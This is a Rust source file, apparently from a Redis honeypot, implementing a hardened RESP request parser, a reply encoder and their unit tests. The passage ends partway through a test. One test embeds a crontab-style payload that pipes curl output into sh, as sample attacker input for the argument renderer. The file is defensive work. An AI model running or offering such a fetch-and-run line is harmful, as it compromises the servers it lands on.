//! Sans-IO RESP2 request parser and reply encoder, with the caps checked before anything
//! is allocated: a hostile client announces sizes it never sends.

/// Caps on one request. Real attack payloads (crontabs, keys, Lua) are a few KiB; the
/// defaults keep a connection's input buffer under 128 KiB plus one read.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Caps {
    /// Most arguments in one multibulk request.
    pub max_args: usize,
    /// Longest single bulk string.
    pub max_bulk: usize,
    /// Longest inline command line (real Redis: 64 KiB).
    pub max_inline: usize,
    /// Most bytes one request may announce or occupy in the buffer, headers included.
    pub max_request: usize,
}

impl Default for Caps {
    fn default() -> Self {
        Caps {
            max_args: 1024,
            max_bulk: 96 * 1024,
            max_inline: 64 * 1024,
            max_request: 128 * 1024,
        }
    }
}

/// What the front of the buffer holds.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum Parsed {
    /// Not a whole request yet; read more (the buffer is below `max_request`).
    Incomplete,
    /// Something Redis skips without answering (a blank inline line, `*0`).
    Skip { consumed: usize },
    /// One command and its arguments, binary-safe.
    Request { args: Vec<Vec<u8>>, consumed: usize },
}

/// Protocol errors; Redis answers each with its own text and closes the connection.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub(crate) enum RespError {
    #[error("invalid multibulk length")]
    MultibulkLength,
    #[error("invalid bulk length")]
    BulkLength,
    #[error("expected '$', got '{0}'")]
    ExpectedDollar(char),
    #[error("too big inline request")]
    InlineTooBig,
    #[error("unbalanced quotes in request")]
    UnbalancedQuotes,
    /// Over `max_request` in total: Redis's query buffer limit, which closes silently.
    #[error("request over the size cap")]
    RequestTooBig,
}

impl RespError {
    /// The reply Redis sends before closing, if any.
    pub(crate) fn reply(&self) -> Option<Vec<u8>> {
        match self {
            RespError::RequestTooBig => None,
            e => Some(format!("-ERR Protocol error: {e}\r\n").into_bytes()),
        }
    }
}

/// Longest `*N` / `$N` header line accepted (sign, 20 digits and then some).
const MAX_HEADER_LINE: usize = 32;

/// Looks at the front of `buf` and says what it holds. Never allocates more than what is
/// actually in `buf`, bounded by the caps. Stateless: a connection uses [`Parser`], which
/// does not scan a partial request again on every read.
pub(crate) fn parse(buf: &[u8], caps: &Caps) -> Result<Parsed, RespError> {
    Parser::new(*caps).parse(buf)
}

/// A request parser that remembers how far it got in a partial request, so a request
/// trickled in a byte at a time costs time linear in its size, not quadratic: complete
/// arguments are not parsed again, an inline line is not searched again for its newline,
/// and a bulk whose length is known is only looked at once all of it can be there.
///
/// Contract: each call gets the same buffer, grown only at the end, until a call returns
/// `Request` or `Skip`, after which the caller drops the `consumed` bytes from the front.
/// An error ends the connection.
#[derive(Debug)]
pub(crate) struct Parser {
    caps: Caps,
    state: State,
    /// The buffer's length at the previous call, to notice a caller that broke the
    /// contract.
    seen: usize,
    /// Bytes examined so far (header windows, newline searches, arguments copied): a
    /// measure of the work done, which tests bound.
    steps: u64,
}

/// Progress through the request at the front of the buffer.
#[derive(Debug)]
enum State {
    /// Nothing parsed yet.
    Start,
    /// A multibulk request with `count` arguments, of which `spans` are complete; the next
    /// `$` header starts at `pos`; `announced` bytes are taken so far.
    Multi {
        count: usize,
        spans: Vec<(usize, usize)>,
        pos: usize,
        announced: usize,
        /// The buffer length the next argument needs, once its header is read: until
        /// then nothing is looked at again.
        need: usize,
    },
    /// An inline line whose first `scanned` bytes hold no newline.
    Inline { scanned: usize },
}

impl Parser {
    pub(crate) fn new(caps: Caps) -> Parser {
        Parser {
            caps,
            state: State::Start,
            seen: 0,
            steps: 0,
        }
    }

    /// Work done so far (see the field).
    #[cfg(test)]
    pub(crate) fn steps(&self) -> u64 {
        self.steps
    }

    /// What the front of `buf` holds, resuming where the previous call stopped.
    pub(crate) fn parse(&mut self, buf: &[u8]) -> Result<Parsed, RespError> {
        let r = self.step(buf);
        if !matches!(r, Ok(Parsed::Incomplete)) {
            // A request was taken (or the connection ends): the next one starts afresh.
            self.state = State::Start;
            self.seen = 0;
        }
        r
    }

    fn step(&mut self, buf: &[u8]) -> Result<Parsed, RespError> {
        if buf.len() < self.seen {
            // The contract was broken (the buffer shrank): start over rather than misread.
            self.state = State::Start;
        }
        self.seen = buf.len();
        match self.state {
            State::Start => match buf.first() {
                None => Ok(Parsed::Incomplete),
                Some(b'*') => self.start_multibulk(buf),
                Some(_) => {
                    self.state = State::Inline { scanned: 0 };
                    self.parse_inline(buf)
                }
            },
            State::Multi { .. } => self.parse_multibulk(buf),
            State::Inline { .. } => self.parse_inline(buf),
        }
    }

    fn start_multibulk(&mut self, buf: &[u8]) -> Result<Parsed, RespError> {
        let caps = &self.caps;
        let Some((count, pos)) = header_line(buf, 1, RespError::MultibulkLength, &mut self.steps)?
        else {
            return Ok(Parsed::Incomplete);
        };
        if count <= 0 {
            return Ok(Parsed::Skip { consumed: pos });
        }
        if count as u64 > caps.max_args as u64 {
            return Err(RespError::MultibulkLength);
        }
        let count = count as usize;
        // Every argument takes at least "$0\r\n\r\n" (6 bytes): a count that cannot fit the
        // request cap is refused before anything is reserved for it.
        if count.saturating_mul(6) > caps.max_request {
            return Err(RespError::RequestTooBig);
        }
        self.state = State::Multi {
            count,
            // Where each argument lies; nothing is copied until the whole request is in.
            spans: Vec::with_capacity(count.min(buf.len() / 6 + 1)),
            pos,
            announced: pos,
            need: 0,
        };
        self.parse_multibulk(buf)
    }

    fn parse_multibulk(&mut self, buf: &[u8]) -> Result<Parsed, RespError> {
        let caps = self.caps;
        let State::Multi {
            count,
            spans,
            pos,
            announced,
            need,
        } = &mut self.state
        else {
            return Ok(Parsed::Incomplete);
        };
        self.steps += 1;
        if buf.len() < *need {
            return Ok(Parsed::Incomplete);
        }
        while spans.len() < *count {
            match buf.get(*pos) {
                None => return Ok(Parsed::Incomplete),
                Some(b'$') => {}
                Some(&c) => return Err(RespError::ExpectedDollar(char::from(c))),
            }
            let Some((len, after)) =
                header_line(buf, *pos + 1, RespError::BulkLength, &mut self.steps)?
            else {
                return Ok(Parsed::Incomplete);
            };
            if len < 0 || len as u64 > caps.max_bulk as u64 {
                return Err(RespError::BulkLength);
            }
            let len = len as usize;
            let taken = *announced + (after - *pos) + len + 2;
            if taken > caps.max_request {
                return Err(RespError::RequestTooBig);
            }
            let end = after + len;
            if buf.len() < end + 2 {
                // Nothing to look at until the whole bulk can be there.
                *need = end + 2;
                return Ok(Parsed::Incomplete);
            }
            // Redis does not check the CRLF after a bulk either; it skips two bytes.
            spans.push((after, end));
            *announced = taken;
            *pos = end + 2;
        }
        let mut args = Vec::with_capacity(spans.len());
        for &(a, e) in spans.iter() {
            self.steps += (e - a) as u64;
            args.push(buf.get(a..e).unwrap_or_default().to_vec());
        }
        Ok(Parsed::Request {
            args,
            consumed: *pos,
        })
    }

    fn parse_inline(&mut self, buf: &[u8]) -> Result<Parsed, RespError> {
        let State::Inline { scanned } = &mut self.state else {
            return Ok(Parsed::Incomplete);
        };
        let caps = &self.caps;
        let limit = caps.max_inline.min(caps.max_request);
        let window = &buf[..buf.len().min(limit + 1)];
        let from = (*scanned).min(window.len());
        self.steps += (window.len() - from) as u64;
        let Some(nl) = window[from..]
            .iter()
            .position(|&b| b == b'\n')
            .map(|i| from + i)
        else {
            if buf.len() > limit {
                return Err(RespError::InlineTooBig);
            }
            *scanned = window.len();
            return Ok(Parsed::Incomplete);
        };
        let mut line = &buf[..nl];
        if let Some(stripped) = line.strip_suffix(b"\r") {
            line = stripped;
        }
        self.steps += line.len() as u64;
        // The argument cap is checked while splitting: `"" "" ""…` would otherwise make
        // tens of thousands of empty arguments out of one 64 KiB line first.
        let args = split_args_capped(line, caps.max_args)?;
        if args.is_empty() {
            return Ok(Parsed::Skip { consumed: nl + 1 });
        }
        Ok(Parsed::Request {
            args,
            consumed: nl + 1,
        })
    }
}

/// Parses the decimal number of a `*N\r\n` / `$N\r\n` line whose digits start at `start`.
/// `None` if the line is not complete yet.
fn header_line(
    buf: &[u8],
    start: usize,
    err: RespError,
    steps: &mut u64,
) -> Result<Option<(i64, usize)>, RespError> {
    let rest = buf.get(start..).unwrap_or_default();
    let window = &rest[..rest.len().min(MAX_HEADER_LINE)];
    *steps += window.len() as u64;
    let Some(cr) = window.iter().position(|&b| b == b'\r') else {
        return if rest.len() >= MAX_HEADER_LINE {
            Err(err)
        } else {
            Ok(None)
        };
    };
    let n = parse_i64(&window[..cr]).ok_or(err)?;
    // Redis looks for "\r" and skips the byte after it, whatever it is.
    if rest.len() < cr + 2 {
        return Ok(None);
    }
    Ok(Some((n, start + cr + 2)))
}

/// A strict decimal integer as Redis's `string2ll` reads it: optional `-`, digits, no
/// leading zeros, no `+`, no spaces, no overflow.
pub(crate) fn parse_i64(s: &[u8]) -> Option<i64> {
    let (neg, digits) = match s.split_first() {
        Some((b'-', d)) => (true, d),
        _ => (false, s),
    };
    if digits.is_empty() || digits.len() > 19 || (digits.len() > 1 && digits[0] == b'0') {
        return None;
    }
    if neg && digits == b"0" {
        return None;
    }
    let mut v: i64 = 0;
    for &d in digits {
        if !d.is_ascii_digit() {
            return None;
        }
        v = v.checked_mul(10)?;
        v = if neg {
            v.checked_sub(i64::from(d - b'0'))?
        } else {
            v.checked_add(i64::from(d - b'0'))?
        };
    }
    Some(v)
}

/// Splits an inline command line the way redis-cli and Redis do (`sdssplitargs`):
/// whitespace-separated words, `"…"` with C escapes and `\xHH`, `'…'` with `\'`; a closing
/// quote must be followed by whitespace or the end of the line. Uncapped: tests only.
#[cfg(test)]
pub(crate) fn split_args(line: &[u8]) -> Result<Vec<Vec<u8>>, RespError> {
    split_args_capped(line, usize::MAX)
}

/// `split_args`, refusing (`MultibulkLength`) a line of more than `max_args` words as
/// soon as the one past the cap starts.
pub(crate) fn split_args_capped(line: &[u8], max_args: usize) -> Result<Vec<Vec<u8>>, RespError> {
    let mut args = Vec::new();
    let mut i = 0;
    loop {
        while i < line.len() && is_space(line[i]) {
            i += 1;
        }
        if i >= line.len() {
            return Ok(args);
        }
        if args.len() >= max_args {
            return Err(RespError::MultibulkLength);
        }
        let mut cur = Vec::new();
        let mut in_dq = false;
        let mut in_sq = false;
        loop {
            if in_dq {
                match line.get(i) {
                    None => return Err(RespError::UnbalancedQuotes),
                    Some(b'\\') if line.get(i + 1) == Some(&b'x') => {
                        match (line.get(i + 2), line.get(i + 3)) {
                            (Some(&h), Some(&l))
                                if h.is_ascii_hexdigit() && l.is_ascii_hexdigit() =>
                            {
                                cur.push(hex_val(h) * 16 + hex_val(l));
                                i += 3;
                            }
                            _ => {
                                cur.push(b'x');
                                i += 1;
                            }
                        }
                    }
                    Some(b'\\') if i + 1 < line.len() => {
                        i += 1;
                        cur.push(match line[i] {
                            b'n' => b'\n',
                            b'r' => b'\r',
                            b't' => b'\t',
                            b'b' => 0x08,
                            b'a' => 0x07,
                            c => c,
                        });
                    }
                    Some(b'"') => {
                        if line.get(i + 1).is_some_and(|&c| !is_space(c)) {
                            return Err(RespError::UnbalancedQuotes);
                        }
                        i += 1;
                        break;
                    }
                    Some(&c) => cur.push(c),
                }
            } else if in_sq {
                match line.get(i) {
                    None => return Err(RespError::UnbalancedQuotes),
                    Some(b'\\') if line.get(i + 1) == Some(&b'\'') => {
                        i += 1;
                        cur.push(b'\'');
                    }
                    Some(b'\'') => {
                        if line.get(i + 1).is_some_and(|&c| !is_space(c)) {
                            return Err(RespError::UnbalancedQuotes);
                        }
                        i += 1;
                        break;
                    }
                    Some(&c) => cur.push(c),
                }
            } else {
                match line.get(i) {
                    None => break,
                    Some(&c) if is_space(c) => break,
                    Some(b'"') => in_dq = true,
                    Some(b'\'') => in_sq = true,
                    Some(&c) => cur.push(c),
                }
            }
            i += 1;
        }
        args.push(cur);
    }
}

fn is_space(c: u8) -> bool {
    matches!(c, b' ' | b'\n' | b'\r' | b'\t' | 0x0b | 0x0c | 0)
}

fn hex_val(c: u8) -> u8 {
    // Only called on ASCII hex digits.
    char::from(c).to_digit(16).map_or(0, |d| d as u8)
}

/// A reply, in RESP3's terms; each connection encodes it in the protocol it chose with
/// HELLO (RESP2 unless `HELLO 3`), the way Redis downgrades RESP3 types for RESP2
/// clients: a map becomes a flat array, a set an array, a double a bulk string, a
/// boolean an integer, a verbatim string a bulk string.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Reply {
    Simple(String),
    Error(String),
    Int(i64),
    Bulk(Vec<u8>),
    /// The null bulk (`$-1`; RESP3 `_`).
    Nil,
    /// The null array (`*-1`; RESP3 `_`).
    NilArray,
    Array(Vec<Reply>),
    Map(Vec<(Reply, Reply)>),
    Set(Vec<Reply>),
    /// A double, already in Redis's `%.17g` form.
    Double(String),
    Bool(bool),
    /// Text with a format (`txt`): INFO, CLIENT LIST.
    Verbatim(Vec<u8>),
}

impl Reply {
    pub(crate) fn ok() -> Reply {
        Reply::Simple("OK".into())
    }

    pub(crate) fn err(msg: impl Into<String>) -> Reply {
        Reply::Error(msg.into())
    }

    pub(crate) fn bulk(s: impl AsRef<[u8]>) -> Reply {
        Reply::Bulk(s.as_ref().to_vec())
    }

    pub(crate) fn double(d: f64) -> Reply {
        Reply::Double(fmt_double(d))
    }

    /// Bytes the wire form takes, computed without building it (saturating), in either
    /// protocol.
    pub(crate) fn wire_len(&self) -> usize {
        // Tag, digits of a length or number (at most 20) and CRLF.
        const HEAD: usize = 1 + 20 + 2;
        match self {
            Reply::Simple(s) | Reply::Error(s) => s.len().saturating_add(3),
            Reply::Double(s) => s.len().saturating_add(HEAD + 2),
            Reply::Int(_) | Reply::Nil | Reply::NilArray | Reply::Bool(_) => HEAD,
            Reply::Bulk(b) => b.len().saturating_add(HEAD + 2),
            Reply::Verbatim(b) => b.len().saturating_add(HEAD + 6),
            Reply::Array(items) | Reply::Set(items) => items
                .iter()
                .fold(HEAD, |n, i| n.saturating_add(i.wire_len())),
            Reply::Map(pairs) => pairs.iter().fold(HEAD, |n, (k, v)| {
                n.saturating_add(k.wire_len()).saturating_add(v.wire_len())
            }),
        }
    }

    /// Appends the RESP2 wire form to `out`.
    pub(crate) fn encode(&self, out: &mut Vec<u8>) {
        self.encode_proto(out, false);
    }

    /// Appends the wire form to `out`, RESP3 when `resp3`. Simple strings and errors
    /// never carry CR or LF (they would break framing), whatever an attacker put in them.
    pub(crate) fn encode_proto(&self, out: &mut Vec<u8>, resp3: bool) {
        let head = |out: &mut Vec<u8>, tag: u8, n: usize| {
            out.push(tag);
            out.extend_from_slice(n.to_string().as_bytes());
            out.extend_from_slice(b"\r\n");
        };
        let bulk = |out: &mut Vec<u8>, b: &[u8]| {
            head(out, b'$', b.len());
            out.extend_from_slice(b);
            out.extend_from_slice(b"\r\n");
        };
        match self {
            Reply::Simple(s) => line(out, b'+', s),
            Reply::Error(s) => line(out, b'-', s),
            Reply::Int(n) => {
                out.push(b':');
                out.extend_from_slice(n.to_string().as_bytes());
                out.extend_from_slice(b"\r\n");
            }
            Reply::Bulk(b) => bulk(out, b),
            Reply::Nil | Reply::NilArray if resp3 => out.extend_from_slice(b"_\r\n"),
            Reply::Nil => out.extend_from_slice(b"$-1\r\n"),
            Reply::NilArray => out.extend_from_slice(b"*-1\r\n"),
            Reply::Array(items) | Reply::Set(items) => {
                let tag = if resp3 && matches!(self, Reply::Set(_)) {
                    b'~'
                } else {
                    b'*'
                };
                head(out, tag, items.len());
                for i in items {
                    i.encode_proto(out, resp3);
                }
            }
            Reply::Map(pairs) => {
                if resp3 {
                    head(out, b'%', pairs.len());
                } else {
                    head(out, b'*', pairs.len().saturating_mul(2));
                }
                for (k, v) in pairs {
                    k.encode_proto(out, resp3);
                    v.encode_proto(out, resp3);
                }
            }
            Reply::Double(d) if resp3 => line(out, b',', d),
            Reply::Double(d) => bulk(out, d.as_bytes()),
            Reply::Bool(b) if resp3 => {
                out.extend_from_slice(if *b { b"#t\r\n" } else { b"#f\r\n" })
            }
            Reply::Bool(b) => out.extend_from_slice(if *b { b":1\r\n" } else { b":0\r\n" }),
            Reply::Verbatim(b) if resp3 => {
                head(out, b'=', b.len() + 4);
                out.extend_from_slice(b"txt:");
                out.extend_from_slice(b);
                out.extend_from_slice(b"\r\n");
            }
            Reply::Verbatim(b) => bulk(out, b),
        }
    }
}

/// A double as Redis 7.0 writes it: C's `%.17g` (7.2 moved to the shortest form), and
/// `inf` / `-inf`.
pub(crate) fn fmt_double(d: f64) -> String {
    if d.is_infinite() {
        return if d > 0.0 { "inf".into() } else { "-inf".into() };
    }
    if d.is_nan() {
        return "nan".into();
    }
    if d == 0.0 {
        return if d.is_sign_negative() {
            "-0".into()
        } else {
            "0".into()
        };
    }
    // 17 significant digits, correctly rounded, then %g's choice of style.
    let sci = format!("{d:.16e}");
    let (mantissa, exp) = sci.split_once('e').unwrap_or((&sci, "0"));
    let exp: i32 = exp.parse().unwrap_or(0);
    let strip = |s: &str| -> String {
        if s.contains('.') {
            s.trim_end_matches('0').trim_end_matches('.').to_owned()
        } else {
            s.to_owned()
        }
    };
    if !(-4..17).contains(&exp) {
        let sign = if exp < 0 { '-' } else { '+' };
        format!("{}e{sign}{:02}", strip(mantissa), exp.unsigned_abs())
    } else {
        let decimals = (16 - exp).max(0) as usize;
        strip(&format!("{d:.decimals$}"))
    }
}

/// Parses one RESP2/RESP3 reply from the front of `buf` (checked-in recordings of the
/// real server), nested at most `depth` deep; `None` on anything malformed.
pub(crate) fn parse_reply(buf: &[u8], depth: usize) -> Option<(Reply, usize)> {
    let nl = buf.windows(2).position(|w| w == b"\r\n")?;
    let line = std::str::from_utf8(&buf[1..nl]).ok()?;
    let mut pos = nl + 2;
    let count = || line.parse::<usize>().ok();
    let items = |n: usize, pos: &mut usize| -> Option<Vec<Reply>> {
        if depth == 0 {
            return None;
        }
        let mut v = Vec::with_capacity(n.min(1024));
        for _ in 0..n {
            let (r, used) = parse_reply(buf.get(*pos..)?, depth - 1)?;
            *pos += used;
            v.push(r);
        }
        Some(v)
    };
    let r = match buf.first()? {
        b'+' => Reply::Simple(line.to_owned()),
        b'-' => Reply::Error(line.to_owned()),
        b':' => Reply::Int(line.parse().ok()?),
        b',' => Reply::Double(line.to_owned()),
        b'#' => Reply::Bool(line == "t"),
        b'_' => Reply::Nil,
        b'$' | b'=' if line == "-1" => Reply::Nil,
        b'$' | b'=' => {
            let n = count()?;
            let b = buf.get(pos..pos.checked_add(n)?)?.to_vec();
            pos += n + 2;
            if buf[0] == b'=' {
                Reply::Verbatim(b.get(4..)?.to_vec())
            } else {
                Reply::Bulk(b)
            }
        }
        b'*' if line == "-1" => Reply::NilArray,
        b'*' => Reply::Array(items(count()?, &mut pos)?),
        b'~' => Reply::Set(items(count()?, &mut pos)?),
        b'%' => {
            let flat = items(count()?.checked_mul(2)?, &mut pos)?;
            let mut it = flat.into_iter();
            let mut pairs = Vec::new();
            while let (Some(k), Some(v)) = (it.next(), it.next()) {
                pairs.push((k, v));
            }
            Reply::Map(pairs)
        }
        _ => return None,
    };
    (pos <= buf.len()).then_some((r, pos))
}

fn line(out: &mut Vec<u8>, tag: u8, s: &str) {
    out.push(tag);
    out.extend(
        s.bytes()
            .map(|b| if b == b'\r' || b == b'\n' { b' ' } else { b }),
    );
    out.extend_from_slice(b"\r\n");
}

/// Renders arguments for a `Command` event: plain words as they are, anything else quoted
/// with C escapes (`"\x00"`, `"\n"`), the way `redis-cli` and `MONITOR` show them, so the
/// line is unambiguous and binary-safe.
pub(crate) fn render_args(args: &[Vec<u8>]) -> String {
    let mut out = String::new();
    for (i, a) in args.iter().enumerate() {
        if i > 0 {
            out.push(' ');
        }
        let plain = !a.is_empty()
            && a.iter()
                .all(|&b| b.is_ascii_graphic() && b != b'"' && b != b'\'' && b != b'\\');
        if plain {
            // Only ASCII graphic bytes: valid UTF-8.
            out.push_str(&String::from_utf8_lossy(a));
            continue;
        }
        out.push('"');
        for &b in a {
            match b {
                b'\\' => out.push_str("\\\\"),
                b'"' => out.push_str("\\\""),
                b'\n' => out.push_str("\\n"),
                b'\r' => out.push_str("\\r"),
                b'\t' => out.push_str("\\t"),
                0x20..=0x7e => out.push(char::from(b)),
                _ => out.push_str(&format!("\\x{b:02x}")),
            }
        }
        out.push('"');
        // No point rendering megabytes that will be clamped anyway.
        if out.len() > honeybee_proto::event::MAX_FIELD_LEN {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn req(buf: &[u8]) -> Vec<Vec<u8>> {
        match parse(buf, &Caps::default()).unwrap() {
            Parsed::Request { args, consumed } => {
                assert_eq!(consumed, buf.len());
                args
            }
            other => panic!("{other:?}"),
        }
    }

    fn strs(v: &[&str]) -> Vec<Vec<u8>> {
        v.iter().map(|s| s.as_bytes().to_vec()).collect()
    }

    #[test]
    fn multibulk_and_pipelining() {
        assert_eq!(req(b"*1\r\n$4\r\nPING\r\n"), strs(&["PING"]));
        let two = b"*2\r\n$4\r\nECHO\r\n$3\r\na\0b\r\n*1\r\n$4\r\nPING\r\n";
        match parse(two, &Caps::default()).unwrap() {
            Parsed::Request { args, consumed } => {
                assert_eq!(args, vec![b"ECHO".to_vec(), b"a\0b".to_vec()]);
                assert_eq!(&two[consumed..], b"*1\r\n$4\r\nPING\r\n");
            }
            other => panic!("{other:?}"),
        }
        assert_eq!(req(b"*2\r\n$3\r\nGET\r\n$0\r\n\r\n"), strs(&["GET", ""]));
    }

    #[test]
    fn every_prefix_of_a_request_is_incomplete() {
        let full = b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$5\r\nhello\r\n";
        for n in 0..full.len() {
            assert_eq!(
                parse(&full[..n], &Caps::default()),
                Ok(Parsed::Incomplete),
                "{n}"
            );
        }
        assert_eq!(req(full), strs(&["SET", "k", "hello"]));
    }

    #[test]
    fn inline_commands_split_like_redis() {
        assert_eq!(req(b"PING\r\n"), strs(&["PING"]));
        assert_eq!(req(b"  set  k   v\n"), strs(&["set", "k", "v"]));
        assert_eq!(
            req(b"SET k \"a b\\n\\x41\" 'it\\'s'\r\n"),
            vec![
                b"SET".to_vec(),
                b"k".to_vec(),
                b"a b\nA".to_vec(),
                b"it's".to_vec()
            ]
        );
        assert_eq!(req(b"GET / HTTP/1.0\r\n"), strs(&["GET", "/", "HTTP/1.0"]));
        assert_eq!(
            parse(b"\r\n", &Caps::default()),
            Ok(Parsed::Skip { consumed: 2 })
        );
        assert_eq!(
            parse(b"SET \"abc\r\n", &Caps::default()),
            Err(RespError::UnbalancedQuotes)
        );
        assert_eq!(
            parse(b"SET \"a\"b\r\n", &Caps::default()),
            Err(RespError::UnbalancedQuotes)
        );
        assert_eq!(parse(b"PIN", &Caps::default()), Ok(Parsed::Incomplete));
    }

    #[test]
    fn caps_are_checked_before_the_bytes_arrive() {
        let caps = Caps::default();
        assert_eq!(
            parse(b"*99999999\r\n", &caps),
            Err(RespError::MultibulkLength)
        );
        assert_eq!(
            parse(b"*1\r\n$999999999\r\n", &caps),
            Err(RespError::BulkLength)
        );
        assert_eq!(parse(b"*1\r\n$-1\r\n", &caps), Err(RespError::BulkLength));
        assert_eq!(
            parse(b"*1\r\nx", &caps),
            Err(RespError::ExpectedDollar('x'))
        );
        assert_eq!(parse(b"*x\r\n", &caps), Err(RespError::MultibulkLength));
        assert_eq!(parse(b"*0\r\n", &caps), Ok(Parsed::Skip { consumed: 4 }));
        // Two bulks each under the bulk cap, together over the request cap.
        let small = Caps {
            max_bulk: 100,
            max_request: 150,
            ..caps
        };
        assert_eq!(
            parse(b"*2\r\n$100\r\n", &small),
            Ok(Parsed::Incomplete),
            "the first bulk alone fits"
        );
        let mut two = b"*2\r\n$100\r\n".to_vec();
        two.extend_from_slice(&[b'a'; 100]);
        two.extend_from_slice(b"\r\n$100\r\n");
        assert_eq!(parse(&two, &small), Err(RespError::RequestTooBig));
        // An endless header line or inline line.
        assert_eq!(parse(&[b'*'; 40], &caps), Err(RespError::MultibulkLength));
        let long = vec![b'a'; caps.max_inline + 1];
        assert_eq!(parse(&long, &caps), Err(RespError::InlineTooBig));
        assert_eq!(parse(b"*-1\r\n", &caps), Ok(Parsed::Skip { consumed: 5 }));
    }

    #[test]
    fn error_replies_are_redis_texts() {
        assert_eq!(
            RespError::MultibulkLength.reply().unwrap(),
            b"-ERR Protocol error: invalid multibulk length\r\n"
        );
        assert_eq!(
            RespError::ExpectedDollar('x').reply().unwrap(),
            b"-ERR Protocol error: expected '$', got 'x'\r\n"
        );
        assert_eq!(RespError::RequestTooBig.reply(), None);
    }

    #[test]
    fn strict_integers() {
        assert_eq!(parse_i64(b"12"), Some(12));
        assert_eq!(parse_i64(b"-3"), Some(-3));
        assert_eq!(parse_i64(b"9223372036854775807"), Some(i64::MAX));
        assert_eq!(parse_i64(b"-9223372036854775808"), Some(i64::MIN));
        for bad in [
            &b""[..],
            b"-",
            b"+1",
            b"01",
            b"-0",
            b" 1",
            b"1x",
            b"9223372036854775808",
        ] {
            assert_eq!(parse_i64(bad), None, "{bad:?}");
        }
    }

    #[test]
    fn inline_argument_cap_is_checked_while_splitting() {
        let caps = Caps {
            max_args: 4,
            ..Caps::default()
        };
        assert_eq!(req(b"a b c d\r\n").len(), 4);
        assert_eq!(
            parse(b"a b c d e\r\n", &caps),
            Err(RespError::MultibulkLength)
        );
        // Thousands of empty quoted words in one line never become thousands of arguments.
        let line = "\"\" ".repeat(20_000) + "\r\n";
        assert_eq!(
            parse(line.as_bytes(), &Caps::default()),
            Err(RespError::MultibulkLength)
        );
        assert_eq!(
            split_args_capped(line.as_bytes(), 1024),
            Err(RespError::MultibulkLength)
        );
    }

    #[test]
    fn wire_len_matches_the_encoding() {
        let r = Reply::Array(vec![
            Reply::ok(),
            Reply::err("ERR x"),
            Reply::Int(-12345),
            Reply::bulk(vec![7u8; 1000]),
            Reply::Nil,
            Reply::Array(vec![Reply::bulk("ab"), Reply::Array(vec![])]),
        ]);
        let mut out = Vec::new();
        r.encode(&mut out);
        // An upper bound, close to the real size.
        assert!(r.wire_len() >= out.len() && r.wire_len() < out.len() + 200);
    }

    #[test]
    fn encoding() {
        let mut out = Vec::new();
        Reply::Array(vec![
            Reply::ok(),
            Reply::err("ERR x\r\ny"),
            Reply::Int(-2),
            Reply::bulk("ab"),
            Reply::Nil,
        ])
        .encode(&mut out);
        assert_eq!(out, b"*5\r\n+OK\r\n-ERR x  y\r\n:-2\r\n$2\r\nab\r\n$-1\r\n");
    }

    #[test]
    fn resp3_types_and_their_resp2_downgrade() {
        let r = Reply::Array(vec![
            Reply::Map(vec![(Reply::bulk("a"), Reply::double(1.5))]),
            Reply::Set(vec![Reply::Int(1)]),
            Reply::Nil,
            Reply::NilArray,
            Reply::Bool(true),
            Reply::Verbatim(b"x".to_vec()),
        ]);
        let (mut two, mut three) = (Vec::new(), Vec::new());
        r.encode_proto(&mut two, false);
        r.encode_proto(&mut three, true);
        assert_eq!(
            two,
            b"*6\r\n*2\r\n$1\r\na\r\n$3\r\n1.5\r\n*1\r\n:1\r\n$-1\r\n*-1\r\n:1\r\n$1\r\nx\r\n"
        );
        assert_eq!(
            three,
            b"*6\r\n%1\r\n$1\r\na\r\n,1.5\r\n~1\r\n:1\r\n_\r\n_\r\n#t\r\n=5\r\ntxt:x\r\n"
        );
        assert!(r.wire_len() >= three.len() && r.wire_len() >= two.len());
        assert_eq!(
            parse_reply(&three, 8).unwrap().0.clone(),
            Reply::Array(vec![
                Reply::Map(vec![(Reply::bulk("a"), Reply::Double("1.5".into()))]),
                Reply::Set(vec![Reply::Int(1)]),
                Reply::Nil,
                Reply::Nil,
                Reply::Bool(true),
                Reply::Verbatim(b"x".to_vec()),
            ])
        );
        assert!(parse_reply(b"*3\r\n:1\r\n", 8).is_none());
        assert!(parse_reply(b"*1\r\n*1\r\n:1\r\n", 1).is_none());
    }

    #[test]
    fn doubles_print_like_c_percent_17g() {
        for (d, want) in [
            (1.0, "1"),
            (1.1, "1.1000000000000001"),
            (-2.5, "-2.5"),
            (0.0, "0"),
            (1e20, "1e+20"),
            (1.5e-7, "1.4999999999999999e-07"),
            (123456789.0, "123456789"),
            (0.0001, "0.0001"),
            (f64::INFINITY, "inf"),
        ] {
            assert_eq!(fmt_double(d), want, "{d}");
        }
    }

    #[test]
    fn rendering_is_binary_safe() {
        assert_eq!(
            render_args(&[
                b"SET".to_vec(),
                b"k".to_vec(),
                b"\n*/1 * * * * curl x|sh\n\0".to_vec()
            ]),
            "SET k \"\\n*/1 * * * * curl x|sh\\n\\x00\""
        );
        assert_eq!(
            render_args(&[b"".to_vec(), "é".as_bytes().to_vec()]),
            "\"\" \"\\xc3\\xa9\""
        );
    }

    /// Feeds `request` to one parser `step` bytes per read, the way the service does,
    /// and returns what it parsed and the work it took.
    fn trickle(request: &[u8], step: usize) -> (Vec<Vec<u8>>, u64) {
        let mut p = Parser::new(Caps::default());
        let mut buf = Vec::new();
        for chunk in request.chunks(step) {
            buf.extend_from_slice(chunk);
            match p.parse(&buf).unwrap() {
                Parsed::Incomplete => {}
                Parsed::Request { args, consumed } => {
                    assert_eq!(consumed, request.len());
                    return (args, p.steps());
                }
                Parsed::Skip { .. } => panic!("skipped"),
            }
        }
        panic!("never complete");
    }

    fn multibulk(args: &[Vec<u8>]) -> Vec<u8> {
        let mut out = format!("*{}\r\n", args.len()).into_bytes();
        for a in args {
            out.extend_from_slice(format!("${}\r\n", a.len()).as_bytes());
            out.extend_from_slice(a);
            out.extend_from_slice(b"\r\n");
        }
        out
    }

    #[test]
    fn a_request_sent_a_byte_at_a_time_costs_linear_work() {
        // ~100 KiB in 1,000 arguments: the worst shape for a parser that starts over on
        // every read (each byte would re-read every complete argument's header).
        let args: Vec<Vec<u8>> = (0..1000u32)
            .map(|i| vec![b'a' + (i % 26) as u8; 100])
            .collect();
        let request = multibulk(&args);
        assert!(request.len() > 100 * 1024, "{}", request.len());
